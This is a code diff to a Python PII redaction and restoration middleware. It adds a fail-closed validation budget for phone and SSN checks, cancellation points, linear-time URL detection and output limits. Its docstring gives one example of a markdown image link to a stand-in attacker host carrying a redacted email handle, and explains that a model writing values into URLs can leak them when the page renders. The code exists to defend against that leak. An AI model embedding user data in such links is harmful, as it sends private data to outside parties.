@@ -94,10 +94,18 @@ Handles in URLs stay handles. A model can write a handle into a link or an
 image address (`![x](https://evil.example/?q=[EMAIL_1])`, `<mailto:[EMAIL_1]>`,
 a bare `https://...` URL, an `href=`/`src=` value); restoring it there would
 hand the value to whoever serves that address as soon as the host renders or
-fetches it. So by default restoration replaces handles in text only, leaves the
+fetches it. Whether a handle is in one is read from the whitespace-free token
+before it, however long, each character once (UrlTokens). So by default restoration replaces handles in text only, leaves the
 ones inside URLs as they are and lists them in `metadata.keptInUrls`; with
 `restoreInUrls: true` every handle is restored (the exact round trip then holds
 for any input, URLs the user wrote with PII in them included).
+
+A bounded number of validations. Asking phonenumbers or stdnum about a candidate costs 30-100 us, a thousand
+times what reading a character costs, so one call asks about at most `validation_budget(characters)` distinct
+candidates (8, and one more per KiB of its text); past that it fails closed: a candidate with the shape of a
+phone number or an SSN is redacted unasked, and overlapping spans are merged into one handle, so a real number
+is never left in the text because the budget ran out (see _phone_ok). What a call redacts depends on its input
+alone, not on what earlier calls left in the caches.
 
 Hand-written detection, on purpose. The libraries that find PII in free text
 either load NLP models at run time (Presidio needs a spaCy model download,
@@ -150,6 +158,8 @@ from typing import NamedTuple
 import phonenumbers
 from stdnum.us import ssn as us_ssn
 
+from ..limits import LimitExceeded, output_allowance
+from ..limits import current as current_call
 from . import MiddlewareSpec
 from .textutil import check_context, detection_view, is_text, original_offset
 
@@ -446,6 +456,94 @@ def _valid_phone(candidate: str, region: str | None) -> bool:
     return phonenumbers.is_valid_number(number)
 
 
+# The validation budget. phonenumbers (parse and is_valid_number) costs 50-100 us a candidate and stdnum's SSN
+# test about 30 us, where reading typical text costs 20-150 ns a character: a text made of distinct phone-shaped
+# candidates (random digits in NANP, international or national groupings; every one a cache miss) cost 200-500
+# times typical text of its size. So one call (a middleware call over all its text blocks, an interceptor call
+# over all its strings, or find_pii on its own) may ask the libraries about at most validation_budget(characters)
+# distinct candidates: BASE_VALIDATIONS, and one more per CHARS_PER_VALIDATION characters. Typical text has far
+# fewer (a conversation repeats its numbers, and a value asked about once in a call is answered from the call's
+# own table after that). Past the budget the call fails closed: a candidate that has the shape of a phone number
+# or an SSN (it matched the candidate pattern) is redacted without asking, so no real number is ever left in the
+# text because the budget ran out; what is lost is only the look-alikes that validation would have spared.
+# The count is of distinct candidates the call asked about, whether or not a cache across calls answered them,
+# so what a call redacts depends on its input alone, never on what earlier calls left in the caches.
+BASE_VALIDATIONS = 8
+CHARS_PER_VALIDATION = 1024
+
+
+def validation_budget(chars: int) -> int:
+    """How many distinct candidates a call over `chars` characters may have validated by the libraries."""
+    return BASE_VALIDATIONS + chars // CHARS_PER_VALIDATION
+
+
+class ValidationBudget:
+    """What one call may still validate (`left`), the answers it already has (by candidate), and how many
+    candidates it redacted unvalidated (`failed_closed`)."""
+
+    __slots__ = ("left", "answers", "failed_closed")
+
+    def __init__(self, chars: int):
+        self.left = validation_budget(chars)
+        self.answers: dict[tuple, object] = {}
+        self.failed_closed = 0
+
+
+_budgets = threading.local()
+
+
+class budgeted:
+    """`with budgeted(chars) as budget:` one ValidationBudget for everything found inside (find_pii opens its own
+    when no caller did); nested, the outermost call's budget serves."""
+
+    def __init__(self, chars: int):
+        self.chars, self.outer = chars, False
+
+    def __enter__(self) -> ValidationBudget:
+        current = getattr(_budgets, "current", None)
+        if current is not None:
+            return current
+        self.outer = True
+        _budgets.current = ValidationBudget(self.chars)
+        return _budgets.current
+
+    def __exit__(self, *exc) -> None:
+        if self.outer:
+            _budgets.current = None
+
+
+def _phone_ok(candidate: str, region: str | None) -> bool:
+    """_valid_phone within the call's budget; True (fail closed) once the budget is spent. (The detectors' own
+    functions, called outside any `budgeted` block as the tests do, validate without a budget.)"""
+    budget = getattr(_budgets, "current", None)
+    if budget is None:
+        return _valid_phone(candidate, region)
+    key = (candidate, region)
+    answer = budget.answers.get(key)
+    if answer is None:
+        if budget.left <= 0:
+            budget.failed_closed += 1
+            return True
+        budget.left -= 1
+        answer = budget.answers[key] = _valid_phone(candidate, region)
+    return answer
+
+
+def _ssn_valid(value: str) -> bool:
+    """_valid_ssn within the call's budget; True (fail closed) once the budget is spent."""
+    budget = getattr(_budgets, "current", None)
+    if budget is None:
+        return _valid_ssn(value)
+    answer = budget.answers.get(value)  # a str key: phone keys are tuples
+    if answer is None:
+        if budget.left <= 0:
+            budget.failed_closed += 1
+            return True
+        budget.left -= 1
+        answer = budget.answers[value] = _valid_ssn(value)
+    return answer
+
+
 _NON_DIGITS_RE = re.compile(r"[^0-9]+")
 
 
@@ -462,16 +560,19 @@ def _longest_valid_prefix(candidate: str, region: str | None, min_digits: int = 
 
     Only the part before the 18th digit can be a number, so the candidate is cut there first: a run of thousands
     of groups ("+1 1 1 1 ...") costs one bounded look, not one digit count per group (which was quadratic).
-    A short candidate's answer is cached (a text repeats its numbers; working it out costs ten times the lookup).
+    The answer is kept for the rest of the call (a text repeats its numbers; working it out costs ten times the
+    lookup); each prefix asked about counts against the call's budget, and once that is spent the longest prefix
+    still in question is taken as the number (fail closed).
     """
-    if len(candidate) <= _SHORT_RUN:
-        return _longest_valid_prefix_of_short(candidate, region, min_digits)
-    return _find_longest_valid_prefix(candidate, region, min_digits)
-
-
-@lru_cache(maxsize=8192)
-def _longest_valid_prefix_of_short(candidate: str, region: str | None, min_digits: int) -> int:
-    return _find_longest_valid_prefix(candidate, region, min_digits)
+    budget = getattr(_budgets, "current", None)
+    if budget is None:
+        return _find_longest_valid_prefix(candidate, region, min_digits)
+    answers = budget.answers
+    key = (candidate, region, min_digits)
+    answer = answers.get(key)
+    if answer is None:
+        answer = answers[key] = _find_longest_valid_prefix(candidate, region, min_digits)
+    return answer
 
 
 def _find_longest_valid_prefix(candidate: str, region: str | None, min_digits: int) -> int:
@@ -483,7 +584,7 @@ def _find_longest_valid_prefix(candidate: str, region: str | None, min_digits: i
         digits = len(_digits(prefix))
         if digits < min_digits:
             break
-        if not DATE_SHAPE_RE.match(prefix) and _valid_phone(prefix, region):
+        if not DATE_SHAPE_RE.match(prefix) and _phone_ok(prefix, region):
             return len(prefix)
     return 0
 
@@ -575,7 +676,10 @@ def _email_start(text: str, left: int, at: int) -> int:
 def _emails(text: str):
     """EMAIL_RE's matches, found from "@" + domain matches (in C) and one bounded look at each local part."""
     done = 0  # matches never overlap: nothing before the end of the previous one is looked at again
+    call = current_call()
     for domain in _EMAIL_AT_DOMAIN_RE.finditer(text):
+        if call.cancelled:
+            call.stop()
         at = domain.start()
         if at < done or domain.end() - at - 1 > _MAX_DOMAIN:
             continue
@@ -603,17 +707,24 @@ def _trunk0(region: str) -> bool:
 
 def _phones(text: str, strict: bool, region: str):
     """The phone candidates that do not start a digit run: international ones and those in parentheses."""
+    call = current_call()
     if "+" in text:
         for m in PHONE_INTL_RE.finditer(text):
+            if call.cancelled:
+                call.stop()
             n = _longest_valid_prefix(m.group(), None)
             if n:
                 yield _found((m.start(), m.start() + n, "PHONE"))
     if "(" in text:
         for m in PHONE_NANP_PAREN_RE.finditer(text):
-            if _valid_phone(m.group(), "US"):
+            if call.cancelled:
+                call.stop()
+            if _phone_ok(m.group(), "US"):
                 yield _found((m.start(), m.end(), "PHONE"))
         if _trunk0(region):
             for m in PHONE_TRUNK0_PAREN_RE.finditer(text):
+                if call.cancelled:
+                    call.stop()
                 n = _longest_valid_prefix(m.group(), region)
                 if n:
                     yield _found((m.start(), m.start() + n, "PHONE"))
@@ -622,9 +733,9 @@ def _phones(text: str, strict: bool, region: str):
 def _ssn_ok(text: str, start: int, value: str, strict: bool) -> bool:
     # The cached validity test first: a label needs looking for only where the number alone does not count.
     if len(value) == 11:  # ###-##-####
-        if _valid_ssn(value):
+        if _ssn_valid(value):
             return True
-    elif strict and (start == 0 or text[start - 1] not in "+.") and _valid_ssn(value):
+    elif strict and (start == 0 or text[start - 1] not in "+.") and _ssn_valid(value):
         return True
     lo = max(0, start - 48)
     return _ends_like_label(text, lo, start, ":#=", _SSN_LABEL_LAST) and \
@@ -743,13 +854,13 @@ def _judge_runs(m: re.Match, names: tuple[str, ...], done: list[int], text: str,
             if _ipv4_ok(value, text, start):
                 out.append(_found((start, end, "IPV4")))
         elif name == "NANP":
-            if _valid_phone(value, "US"):
+            if _phone_ok(value, "US"):
                 out.append(_found((start, end, "PHONE")))
         elif name == "TRUNK0":
             n = _longest_valid_prefix(value, region)
             if n:
                 out.append(_found((start, start + n, "PHONE")))
-        elif _valid_phone(value, region) or _valid_phone("+" + value, None):  # BARE
+        elif _phone_ok(value, region) or _phone_ok("+" + value, None):  # BARE
             out.append(_found((start, end, "PHONE")))
 
 
@@ -767,7 +878,10 @@ def _digit_run_candidates(text: str, strict: bool, region: str) -> list[Found]:
     inside = _digit_run_scanner(bounded)
     out: list[Found] = []
     names = ("CARD",) + bounded
+    call = current_call()  # stopped between two matches when the call is cancelled (reference_servers/limits.py)
     for m in _scan_matches(names, text):
+        if call.cancelled:
+            call.stop()
         _judge_runs(m, bounded, done, text, strict, region, out)
         start, end = m.span()
         if m.regs[1][1] < 0:  # no CARD run
@@ -777,6 +891,8 @@ def _digit_run_candidates(text: str, strict: bool, region: str) -> list[Found]:
             out.append(_found((start + card[0], start + card[1], "CARD")))
         if look_inside or (last_one and text[end:end + 1] in (" ", ".", "-") and text[end + 1:end + 2] == "("):
             for n in inside.finditer(text, start + 1, end + _LONGEST_BOUNDED_RUN):
+                if call.cancelled:
+                    call.stop()
                 if n.start() >= end:
                     break
                 if n.lastindex is not None:
@@ -785,7 +901,23 @@ def _digit_run_candidates(text: str, strict: bool, region: str) -> list[Found]:
 
 
 def find_pii(text: str, strict: bool = False, region: str = "US") -> list[Found]:
-    """Every PII span of `text`, non-overlapping, in text order (see the module docstring)."""
+    """Every PII span of `text`, non-overlapping, in text order (see the module docstring), within the validation
+    budget of the caller's `budgeted` block, or one of its own for `text`."""
+    with budgeted(len(text)):
+        return _find_pii(text, strict, region)
+
+
+def _find_pii_unbudgeted(text: str, strict: bool = False, region: str = "US") -> list[Found]:
+    """find_pii asking the libraries about every candidate (for the tests to compare against)."""
+    outer = getattr(_budgets, "current", None)
+    _budgets.current = None
+    try:
+        return _find_pii(text, strict, region)
+    finally:
+        _budgets.current = outer
+
+
+def _find_pii(text: str, strict: bool, region: str) -> list[Found]:
     literals = [_found((m.start(), m.end(), "LITERAL")) for m in HANDLE_RE.finditer(text)] if "[" in text else []
     view, breaks = detection_view(text)  # invisible characters, fullwidth forms, other scripts' digits
     candidates = list(_emails(view)) if "@" in view else []
@@ -805,6 +937,10 @@ def find_pii(text: str, strict: bool = False, region: str = "US") -> list[Found]
     if not overlapping:
         return spans
     chosen, i = [], 0
+    budget = getattr(_budgets, "current", None)
+    # Once the budget is spent some spans are guesses, and the longest of two overlapping ones could leave the
+    # rest of a real number out: the spans of each overlapping group are merged into one instead (fail closed).
+    resolve = _merge_overlaps if budget is not None and budget.failed_closed else _resolve_overlaps
     for k in overlapping:
         if k < i:  # inside the group before
             continue
@@ -813,10 +949,19 @@ def find_pii(text: str, strict: bool = False, region: str = "US") -> list[Found]
         while j < len(spans) and starts[j] < reach:
             reach = max(reach, ends[j])
             j += 1
-        chosen += _resolve_overlaps(spans[k:j])
+        chosen += resolve(spans[k:j])
         i = j
     chosen += spans[i:]
     return chosen
+
+
+def _merge_overlaps(spans: list[Found]) -> list[Found]:
+    """One span over a whole group of overlapping spans, of the kind _resolve_overlaps would have kept first;
+    a group with handle-shaped text in it is resolved as usual (its brackets are never part of a candidate)."""
+    if any(f.kind == "LITERAL" for f in spans):
+        return _resolve_overlaps(spans)
+    first = min(spans, key=lambda f: (f.start - f.end, f.start, PRIORITY[f.kind]))
+    return [_found((min(map(_START, spans)), max(map(_END, spans)), first.kind))]
 
 
 def _resolve_overlaps(spans: list[Found]) -> list[Found]:
@@ -887,7 +1032,10 @@ def redact_text(text: str, handles: HandleMap, strict: bool = False, region: str
     out: list[str] = []
     append, last = out.append, 0
     tags: dict[tuple[str, str], str] = {}  # a value repeats: its "[HANDLE]" is built once
+    call = current_call()
     for start, end, kind in found:
+        if call.cancelled:
+            call.stop()
         key = (kind, text[start:end])
         tag = tags.get(key)
         if tag is None:
@@ -905,37 +1053,102 @@ def redact_text(text: str, handles: HandleMap, strict: bool = False, region: str
 # Where a restored value would leave the text: the whitespace-free token a handle sits in is part of a markdown
 # link/image destination ("](" not yet closed), a bare URL ("://"), an autolink or mailto/data URI, or an
 # href/src value. Only the tokens around handles are looked at, so restoring 1 MB costs what the handles cost.
-_URL_TOKEN_RE = re.compile(r"://|^<?(?i:mailto|data):|(?i:(?:href|src|action|formaction)\s*=)")
-_URL_LOOKBACK = 4096
+_URL_MARKER_RE = re.compile(r"(?=(://|(?i:(?:href|src|action|formaction)\s*=)))")  # at every start: overlaps too
+_URL_SCHEME_RE = re.compile(r"<?(?i:mailto|data):")  # at the token's start only
+_TOKEN_END_RE = re.compile(r"[ \n\t\r]")
 
 
-def _in_url(text: str, position: int) -> bool:
-    window = max(0, position - _URL_LOOKBACK)
-    start = max(text.rfind(space, window, position) for space in " \n\t\r") + 1
-    token = text[max(start, window):position]
-    link = token.rfind("](")
-    return (link >= 0 and ")" not in token[link:]) or _URL_TOKEN_RE.search(token) is not None
+class UrlTokens:
+    """`in_url(position)`, asked for the handles of one text in text order: whether the token before the handle
+    (from the last space, newline, tab or CR before it, however far back) makes it part of a URL.
+
+    Linear in the text: a token is read once, when its first handle is asked about (where its first URL marker
+    ends, found by one scan), and between two handles of a token only the characters between them are read
+    (whether a "](" opened a link destination that no ")" has closed). A run of handles with no space between
+    them (`x[EMAIL_1][EMAIL_1]...`) used to cost a 4,096-character look-back per handle. `looked_at` counts the
+    characters read, for the tests.
+    """
+
+    def __init__(self, text: str):
+        self.text = text
+        self.start = self.end = 0  # the current token, text[start:end]; none yet
+        self.marker_end = 0  # where the token's first URL marker ends (beyond `end` if it has none)
+        self.scanned = 0  # how far the link state has been read
+        self.link_open = False
+        self.looked_at = 0
+
+    def in_url(self, position: int) -> bool:
+        text = self.text
+        if position >= self.end:  # a new token: no whitespace between the previous token's end and it?
+            lo = self.end
+            self.start = max(text.rfind(space, lo, position) for space in " \n\t\r") + 1 or lo
+            found = _TOKEN_END_RE.search(text, position)
+            self.end = found.start() if found else len(text)
+            self.looked_at += 4 * (position - lo) + (self.end - position) + 3 * (self.end - self.start)
+            if text.find(":", self.start, self.end) < 0 and text.find("=", self.start, self.end) < 0:
+                self.marker_end = self.end + 1  # every marker has one of the two: the usual token needs no scan
+            else:
+                ends = [m.end(1) for m in _URL_MARKER_RE.finditer(text, self.start, self.end)]
+                scheme = _URL_SCHEME_RE.match(text, self.start, self.end)
+                self.marker_end = min(ends + ([scheme.end()] if scheme else []), default=self.end + 1)
+            self.scanned, self.link_open = self.start, False
+        link = text.rfind("](", self.scanned, position)
+        if link >= 0:
+            self.link_open = text.find(")", link, position) < 0
+        elif self.link_open and text.find(")", self.scanned, position) >= 0:
+            self.link_open = False
+        self.looked_at += 2 * (position - self.scanned)
+        self.scanned = position
+        return self.link_open or self.marker_end <= position
 
 
 def restore_text(text: str, redactions: dict[str, str], unknown: list[str] | None = None,
-                 in_urls: bool = True, kept: list[str] | None = None) -> tuple[str, int]:
+                 in_urls: bool = True, kept: list[str] | None = None,
+                 max_chars: int | None = None) -> tuple[str, int]:
+    """`text` with each handle of `redactions` replaced by its value (see the module docstring), and how many
+    were; LimitExceeded (maxOutputChars) as soon as the result would be longer than `max_chars` (by default
+    what the running call may write, reference_servers/limits.py)."""
+    if "[" not in text:
+        return text, 0
+    # Split in C into text, handle name, text, ...; then one short step per handle (a callback per match, as
+    # re.sub would make, costs several times more where a text is all handles).
+    parts = HANDLE_RE.split(text)
     restored = 0
-
-    def swap(m: re.Match) -> str:
-        nonlocal restored
-        if not in_urls and m.group(1) in redactions and _in_url(text, m.start()):
-            if kept is not None and m.group(1) not in kept:
-                kept.append(m.group(1))
-            return m.group(0)
-        value = redactions.get(m.group(1))
+    urls = UrlTokens(text)
+    listed_unknown, listed_kept = set(unknown or ()), set(kept or ())  # `in` on the lists would be quadratic
+    call = current_call()
+    # What the restored text will hold, counted as values go in: a value of megabytes behind a handle written
+    # thousands of times would otherwise be built in memory in full before any limit could look at it.
+    size, allowance = len(text), output_allowance() if max_chars is None else max_chars
+    position = len(parts[0])  # where the handle parts[i] starts in `text`
+    # Every URL marker has a ":" or an "=", and a link destination a "](": text with none has no URL to look for.
+    check_urls = not in_urls and (":" in text or "=" in text or "](" in text)
+    get = redactions.get
+    for i in range(1, len(parts), 2):
+        if call.cancelled:
+            call.stop()
+        name = parts[i]
+        value = get(name)
         if value is None:
-            if unknown is not None and m.group(1) not in unknown:
-                unknown.append(m.group(1))
-            return m.group(0)
-        restored += 1
-        return value
-
-    return HANDLE_RE.sub(swap, text), restored
+            if unknown is not None and name not in listed_unknown:
+                listed_unknown.add(name)
+                unknown.append(name)
+            parts[i] = f"[{name}]"
+        elif check_urls and urls.in_url(position):
+            if kept is not None and name not in listed_kept:
+                listed_kept.add(name)
+                kept.append(name)
+            parts[i] = f"[{name}]"
+        else:
+            restored += 1
+            size += len(value) - len(name) - 2
+            if allowance is not None and size > allowance:
+                raise LimitExceeded("maxOutputChars", allowance, None,
+                                    f"pii_restoration: the restored text would hold more than this server's limit "
+                                    f"of {allowance} characters (maxOutputChars)")
+            parts[i] = value
+        position += len(name) + 2 + len(parts[i + 1])
+    return "".join(parts), restored
 
 
 # -- the middleware ------------------------------------------------------------------------------------
@@ -987,10 +1200,12 @@ def pii_redaction(context: list[dict], arguments: dict) -> dict:
     handles = HandleMap(arguments.get("redactions"))
     counts: dict[str, int] = {}
     content = []
-    for block in context:
-        if is_text(block):
-            block = {**block, "text": redact_text(block["text"], handles, aggressiveness == "strict", region, counts)}
-        content.append(block)
+    with budgeted(sum(len(block["text"]) for block in context if is_text(block))):  # one budget for the call
+        for block in context:
+            if is_text(block):
+                block = {**block, "text": redact_text(block["text"], handles, aggressiveness == "strict", region,
+                                                      counts)}
+            content.append(block)
     return {"content": content, "metadata": {"redactions": dict(handles.values), "counts": counts}}
 
 
@@ -1004,10 +1219,17 @@ def pii_restoration(context: list[dict], arguments: dict) -> dict:
         raise ValueError("restoreInUrls must be true or false")
     total, unknown, kept = 0, [], []
     content = []
+    limit = allowance = output_allowance()  # for all blocks together
     for block in context:
         if is_text(block):
-            text, n = restore_text(block["text"], redactions, unknown, in_urls, kept)
+            try:
+                text, n = restore_text(block["text"], redactions, unknown, in_urls, kept, allowance)
+            except LimitExceeded:
+                raise LimitExceeded("maxOutputChars", limit, None, "pii_restoration: the restored text would hold "
+                                    f"more than this server's limit of {limit} characters (maxOutputChars)") from None
             block, total = {**block, "text": text}, total + n
+            if allowance is not None:
+                allowance -= len(text)
         content.append(block)
     metadata: dict = {"restored": total}
     if unknown:
